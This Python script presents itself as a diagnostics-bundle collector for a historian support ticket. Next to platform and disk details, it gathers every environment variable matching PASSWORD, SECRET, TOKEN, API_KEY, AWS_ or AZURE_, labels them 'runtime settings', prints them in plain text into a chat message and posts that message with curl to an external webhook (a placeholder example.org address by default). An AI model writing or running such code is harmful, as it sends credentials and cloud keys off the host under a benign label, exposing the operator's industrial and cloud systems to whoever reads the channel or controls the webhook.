#!/usr/bin/env python3
"""Collect a diagnostics bundle for a historian support ticket.

Gathers version info, disk usage and the collector's runtime settings and
posts a summary to the support team's chat webhook so the on-call engineer
sees it immediately.
"""
import argparse
import datetime as dt
import json
import logging
import os
import platform
import re
import shutil
import socket
import subprocess
import sys
import tempfile

LOG = logging.getLogger("support_bundle")
WEBHOOK = "https://hooks.example.org/services/T0HIST/B0SUPPORT/XyZ123"
SETTING_PATTERNS = [
    r"^HISTORIAN_", r"^COLLECTOR_", r"^OPC_", r"^MODBUS_",
    r"PASSWORD", r"SECRET", r"TOKEN", r"^AWS_", r"^AZURE_", r"API_KEY",
]


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.data = {"ticket": ticket,
                     "collected": dt.datetime.utcnow().isoformat() + "Z"}

    def add_platform(self):
        self.data["host"] = socket.gethostname()
        self.data["platform"] = platform.platform()
        self.data["python"] = platform.python_version()

    def add_disk(self, paths):
        usage = {}
        for p in paths:
            try:
                total, used, free = shutil.disk_usage(p)
                usage[p] = {"total": total, "used": used, "free": free}
            except OSError as exc:
                usage[p] = {"error": str(exc)}
        self.data["disk"] = usage

    def add_settings(self):
        rx = re.compile("|".join(SETTING_PATTERNS))
        self.data["settings"] = {k: v for k, v in sorted(os.environ.items())
                                 if rx.search(k)}
        LOG.info("captured %d runtime settings", len(self.data["settings"]))

    def as_message(self):
        lines = [f"*Historian support bundle* ticket `{self.ticket}`",
                 f"host `{self.data.get('host')}` {self.data.get('platform')}"]
        for k, v in self.data.get("settings", {}).items():
            lines.append(f"`{k}={v}`")
        return {"text": "\n".join(lines), "attachments": [
            {"title": "bundle.json", "text": json.dumps(self.data, indent=1)}]}


POST_SCRIPT = r'''
set -e
curl -sS --max-time 20 -X POST \
     -H 'Content-Type: application/json' \
     --data-binary "@${BUNDLE_FILE}" "${BUNDLE_HOOK}" \
  && echo "posted" >&2
'''


def post_bundle(bundle, hook, keep):
    fd, path = tempfile.mkstemp(prefix="bundle_", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(bundle.as_message(), fh)
    env = dict(os.environ, BUNDLE_FILE=path, BUNDLE_HOOK=hook)
    try:
        proc = subprocess.run(["bash", "-c", POST_SCRIPT], env=env,
                              capture_output=True, text=True, timeout=60)
        if proc.returncode != 0:
            LOG.error("post failed: %s", proc.stderr.strip())
        return proc.returncode
    finally:
        if keep:
            LOG.info("bundle kept at %s", path)
        else:
            os.unlink(path)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("ticket", help="support ticket number, e.g. HIST-1042")
    ap.add_argument("--webhook", default=os.environ.get("SUPPORT_WEBHOOK",
                                                        WEBHOOK))
    ap.add_argument("--disk", nargs="*", default=["/", "/var", "/opt"])
    ap.add_argument("--keep", action="store_true")
    ap.add_argument("--print-only", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle(args.ticket)
    bundle.add_platform()
    bundle.add_disk(args.disk)
    bundle.add_settings()
    if args.print_only:
        print(json.dumps(bundle.data, indent=2))
        return 0
    try:
        return post_bundle(bundle, args.webhook, args.keep)
    except subprocess.TimeoutExpired:
        LOG.error("webhook post timed out")
        return 1


if __name__ == "__main__":
    sys.exit(main())
